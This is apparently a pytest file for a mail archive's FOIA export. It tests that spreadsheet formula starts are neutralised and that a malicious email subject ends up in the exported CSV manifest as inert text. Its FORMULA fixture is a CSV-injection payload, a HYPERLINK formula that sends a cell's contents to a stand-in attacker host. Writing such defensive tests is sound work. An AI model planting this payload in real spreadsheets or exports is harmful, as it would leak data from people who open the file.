"""CSV formula injection: a cell the public opens in a spreadsheet never runs as a formula (issue 14.5)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from archive import foia, index, search
from milter import cli
from milter.kernel import csvsafe
from tests.test_archive_search import mail, send

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert csvsafe.neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Reservoir schedule", "", "a=b", " =1", 42, -3])
def test_ordinary_cells_and_numbers_stay_as_they_are(value):
    assert csvsafe.neutralise(value) == value


def test_a_formula_subject_reaches_the_foia_manifest_as_text(make_gateway, tmp_path, capsys):
    gateway = make_gateway({"archive": {"exports": str(tmp_path / "exports")}})
    send(gateway.port, mail("sortiz@example.gov", "dwhitfield@example.gov", FORMULA, "About the reservoir."))
    runtime = gateway.runtime
    index.indexer_for(runtime).run()
    config = str(gateway.config.path)
    assert cli.main(["--config", config, "archive", "foia", "create", "--title", "T", "--requester", "R"]) == 0
    with runtime.database.write() as connection:
        request_id = foia.listing(connection)[0]["id"]
        hit = search.search(connection, "reservoir").hits[0]
        foia.save_search(connection, "rita", request_id, "reservoir", 1)
        foia.review(
            connection,
            "rita",
            runtime.config.settings.archive.foia,
            request_id,
            foia.Review(hit["record_id"], True, "release", None, "-1+1 looks fine"),
        )
    assert cli.main(["--config", config, "archive", "foia", "export", str(request_id)]) == 0
    capsys.readouterr()
    folder = next(Path(runtime.config.settings.archive.exports).glob("FOIA-*/"))
    with (folder / "manifest.csv").open(newline="", encoding="utf-8") as handle:
        (row,) = csv.DictReader(handle)
    assert row["subject"] == "'" + FORMULA
    for name in ("manifest.csv", "decision-log.csv"):
        with (folder / name).open(newline="", encoding="utf-8") as handle:
            for cells in csv.reader(handle):
                assert not any(cell.startswith(csvsafe.FORMULA_STARTS) for cell in cells), (name, cells)
